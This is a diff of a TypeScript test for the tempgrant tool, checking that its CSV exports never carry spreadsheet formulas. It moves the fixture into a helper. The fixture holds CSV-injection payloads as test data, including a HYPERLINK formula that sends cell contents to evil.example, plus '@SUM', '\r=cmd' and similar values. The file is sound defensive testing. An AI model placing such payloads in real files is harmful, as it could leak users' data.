@@ -5,6 +5,7 @@ import { x as extractTar } from "tar";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { appendLedgerEvent } from "../../src/audit/ledger/index.js";
 import { runCli } from "../support/cli.js";
+import { aliceRecord, applyEvent } from "../support/grant-record.js";
 
 // Issue 13 item 7: grant text that a spreadsheet would run as a formula is written as text in
 // every CSV tempgrant writes: audit report, the evidence pack's report.csv and audit diff.
@@ -12,22 +13,15 @@ const dir = mkdtempSync(join(tmpdir(), "tempgrant-csv-injection-"));
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
 const ledger = join(dir, "ledger.jsonl");
 const now = "2026-11-25T18:00:00Z";
-const record = {
-  tempgrant: "tempgrant.grant-record/v1" as const,
+const record = aliceRecord({
   id: "-2+3",
   principal: "@SUM(A1:A9)",
   target: "+1",
-  access: "read",
-  expiresAt: "2026-11-25T20:00:00Z",
   reason: '=HYPERLINK("http://evil.example/?"&A1,"click")',
   ticket: "\t=1",
   requestedBy: "\r=cmd",
   approvedBy: ["=1+1"],
-  breakGlass: false,
-  binding: "custom",
-  nativeExpiry: false,
-  resources: [],
-};
+});
 const FORMULA_TEXT = [record.id, record.principal, record.target, record.reason, record.ticket];
 
 /** No cell of a CSV starts with a character a spreadsheet reads as a formula. */
@@ -40,16 +34,7 @@ function expectNoFormula(csv: string): void {
 }
 
 beforeAll(async () => {
-  await appendLedgerEvent(ledger, {
-    type: "apply",
-    now,
-    stack: "prod",
-    planSha256: "a".repeat(64),
-    stateSerialBefore: null,
-    stateSerialAfter: 1,
-    grants: [{ action: "create", record }],
-    warnings: [],
-  });
+  await appendLedgerEvent(ledger, applyEvent(record, now));
 });
 
 describe("CSV never carries a formula", () => {
